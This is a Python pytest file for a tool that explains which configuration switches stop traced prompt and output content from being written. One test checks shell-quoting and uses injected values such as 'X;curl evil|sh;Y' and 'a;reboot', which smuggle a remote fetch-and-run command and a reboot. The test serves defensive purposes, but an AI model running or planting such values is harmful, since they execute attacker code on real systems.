"""What is said of switches: what turns a write over, what escapes, what turns everything off, and which switch stands first."""

from typing import Any

import pytest

from survey.model.document import Gate, Package, Unresolved
from survey.model.vocabulary import Channel, GateKind, Role
from survey.verdicts.trials import one_by_one
from survey.view.assigning import assignment_text, command_text, value_part
from survey.view.effects import effect_message, effect_of, strongest_first
from survey.view.governing import Rules, rule_messages, still_message, ungated_message
from survey.view.leaving import leavings
from survey.view.telling import Telling
from survey.view.turning_off import off_message, product_message, turning_off
from survey.view.wording import LANGUAGES, Code, load_wording
from tests.verdicts.builders import ACTIVE, CONTENT, CONTENT_ON, MODE, SOMETHING, result, wrote

OPT_IN = Gate(id="opt_in", kind=GateKind.OPTION, name="capture", values=("true",), default="false")
OPTED_IN = {"gate": "opt_in", "in": ["true"]}
HIDE = Gate(id="hide", kind=GateKind.OPTION, name="Config(hide=)", values=("true",), default="false")
HOOK = Gate(id="hook", kind=GateKind.OPTION, name="Kit(hook=)")
CALL = Gate(id="call", kind=GateKind.CONTEXT, name="suppressed")
HIDDEN, HOOKED = {"gate": "hide", "in": ["true"]}, {"gate": "hook", "is": "set"}
BOTH_HIDE = {"any": [CONTENT_ON, {"not": HIDDEN}]}
WORDS = load_wording()
GATES = (CONTENT, OPT_IN, MODE, HIDE, HOOK, CALL)


def rules(package: Package) -> Rules:
    return Rules(package, Telling(package).content, one_by_one(package))


@pytest.mark.parametrize(
    ("when", "said"),
    [
        (True, ["Written whenever the product is on."]),
        (CONTENT_ON, ["Written unless TRACE_CONTENT=false."]),
        (
            {"all": [CONTENT_ON, {"not": HIDDEN}]},
            ["Written unless any one of these is set: TRACE_CONTENT=false, Config(hide=True)."],
        ),
        (BOTH_HIDE, ["Written unless these are set together: TRACE_CONTENT=false, Config(hide=True)."]),
        (OPTED_IN, ["Written only with capture=True."]),
        ({"any": [OPTED_IN, HIDDEN]}, ["Written only with any one of these: Config(hide=True), capture=True."]),
        ({"all": [OPTED_IN, HIDDEN]}, ["Written only with all of these together: Config(hide=True), capture=True."]),
        (HOOKED, ["Written only with Kit(hook=) given."]),
        ({"not": {"gate": "call", "is": "unset"}}, ["Written only where code asks for it, call by call: suppressed."]),
        ({"gate": "call", "is": "unset"}, ["Written unless code says otherwise, call by call: suppressed."]),
        (
            {"all": [CONTENT_ON, SOMETHING]},
            ["Written unless TRACE_CONTENT=false.", "Not decided, and taken as letting it through: p.py:3."],
        ),
        (SOMETHING, ["Written whenever the product is on.", "Not decided, and taken as letting it through: p.py:3."]),
    ],
)
def test_a_condition_is_said_by_what_turns_it_over(when: Any, said: list[str]) -> None:
    package = result(wrote(when=when), gates=GATES)
    found = rules(package).of(package.records[0].writes[0])
    assert [WORDS(message) for message in rule_messages(found)] == said


def test_a_switch_whose_way_of_deciding_was_lost_is_named() -> None:
    package = result(wrote(when=SOMETHING, gates=("content",)), gates=GATES)
    messages = rule_messages(rules(package).of(package.records[0].writes[0]))
    assert WORDS(messages[0]) == "TRACE_CONTENT decides here in a way that could not be followed"


def test_an_escaping_write_is_told_by_the_setting_that_ought_to_stop_it() -> None:
    """Both stand in one line, of which the record only says that something in it escapes."""
    package = result(wrote(when=CONTENT_ON), wrote(when=SOMETHING, key="other"), wrote(when=OPTED_IN, key="third"), gates=GATES)
    (record,) = package.records
    asked, telling = rules(package), Telling(package)
    escaping = [write for write in record.writes if telling.escapes(record, write)]
    assert [write.key for write in escaping] == ["other"]
    setting = asked.expected(record)
    assert WORDS(ungated_message(record, setting)) == "1 write is not stopped by TRACE_CONTENT=false"
    assert WORDS(still_message(setting, asked.of(escaping[0]))) == "Still written with TRACE_CONTENT=false: nothing on this way checks it."
    off = asked.of(next(write for write in record.writes if write.key == "third"))
    assert WORDS(still_message(setting, off)) == "TRACE_CONTENT=false would not stop it: nothing on this way checks it."
    named = asked.of(next(write for write in record.writes if write.when == CONTENT_ON))
    assert WORDS(still_message(setting, named)).startswith("Not stopped by TRACE_CONTENT=false alone")


def told(package: Package) -> tuple[str, list[tuple[Role, int]], str]:
    found = turning_off(package)
    assert found is not None
    product = product_message(found)
    return WORDS(off_message(found)), [(left.role, left.more) for left in found.remaining], WORDS(product) if product else ""


def test_what_turns_everything_off() -> None:
    hidden = {"not": HIDDEN}
    assert told(result(wrote(when=OPTED_IN), gates=GATES))[0].startswith("Nothing needs to be set")
    assert told(result(wrote(when=CONTENT_ON), gates=GATES)) == ("Set TRACE_CONTENT=false: no content is written any more.", [], "")
    all_of = result(wrote(when=CONTENT_ON), wrote(Role.OUTPUT, hidden, line=11), wrote(Role.OUTPUT, hidden, line=12), gates=GATES)
    assert told(all_of)[0] == "Set all of these: Config(hide=True), TRACE_CONTENT=false. No content is written any more."
    partly = result(wrote(when=CONTENT_ON), wrote(Role.OUTPUT, line=11), wrote(Role.OUTPUT, line=12), gates=GATES)
    assert told(partly) == ("No setting does. The most is TRACE_CONTENT=false; this is still written then:", [(Role.OUTPUT, 1)], "")
    assert told(result(wrote())) == ("No setting does. This is written whatever is set:", [(Role.INPUT, 0)], "")
    assert turning_off(result(gates=GATES)) is None


def test_what_could_not_be_followed_is_not_called_off() -> None:
    lost = (Unresolved(path="p.py", line=3, sink="span_attribute key", reason="key could not be resolved"),)
    package = result(wrote(when=CONTENT_ON), gates=GATES).model_copy(update={"unresolved": lost})
    expected = "Set TRACE_CONTENT=false: no content is written any more that was found; 1 place could not be followed."
    assert told(package) == (expected, [], "")


def test_a_switch_that_is_compared_with_nothing_is_given_or_not() -> None:
    package = result(wrote(when={"not": HOOKED}), gates=(HOOK,))
    assert told(package)[0] == "Set Kit(hook=) given: no content is written any more."


def test_a_setting_to_copy_is_no_other_command() -> None:
    gate = Gate(id="x", kind=GateKind.ENV, name="X;curl evil|sh;Y", values=("a;reboot",))
    assert command_text(gate, "a;reboot") == "export 'X;curl evil|sh;Y'='a;reboot'"
    assert assignment_text(CONTENT, "false") == "TRACE_CONTENT=false"
    assert value_part(((Gate(id="m", kind=GateKind.ENV, name="M"), "f(x)"),)) == Code("=f(x)")


def test_that_the_product_can_be_turned_off_is_said_where_something_remains() -> None:
    enabled = {"gate": "active", "in": ["true"]}
    others = tuple((key, enabled) for key in ("a", "b", "c"))
    package = result(wrote(when={"all": [enabled, SOMETHING]}), gates=(ACTIVE,), others=others)
    assert [gate.name for gate in package.activation] == ["ENABLED"]
    assert told(package)[2] == "ENABLED=false turns the whole product off, and all of this with it."


def test_the_switch_that_turns_off_prompt_and_completion_stands_first() -> None:
    media = OPTED_IN
    default_on = OPT_IN.model_copy(update={"default": "true"})
    package = result(
        wrote(when=CONTENT_ON),
        wrote(Role.OUTPUT, {"not": HIDDEN}, line=11),
        *(wrote(when=media, channel=Channel.EXTERNAL_STORAGE, line=20 + number) for number in range(5)),
        gates=(CONTENT, HIDE, default_on, MODE),
    )
    known = leavings(package)
    gates = {gate for record in package.records for gate in record.gates}
    ordered = strongest_first(sorted(gates, key=lambda gate: gate.name), known)
    assert [gate.name for gate in ordered] == ["TRACE_CONTENT", "Config(hide=)", "capture"]
    effects = [effect_of(gate, known) for gate in ordered]
    assert [WORDS(effect_message(each, known)) for each in effects if each] == [
        "=false stops input (span attribute)",
        "=True stops output",
        "=False stops input (external storage)",
    ]


def test_content_that_only_takes_another_channel_is_moved() -> None:
    attribute, log = {"gate": "mode", "in": ["True"]}, {"not": {"gate": "mode", "in": ["True"]}}
    package = result(wrote(when=attribute), wrote(when=log, channel=Channel.LOG_RECORD, line=12, key="event"), gates=(MODE,))
    known = leavings(package)
    effect = effect_of(MODE, known)
    assert effect is not None
    assert [load_wording(language)(effect_message(effect, known)) for language in LANGUAGES] == [
        "=False moves input to log record",
        "=False 把输入改写到日志记录",
    ]
    assert not effect.headline
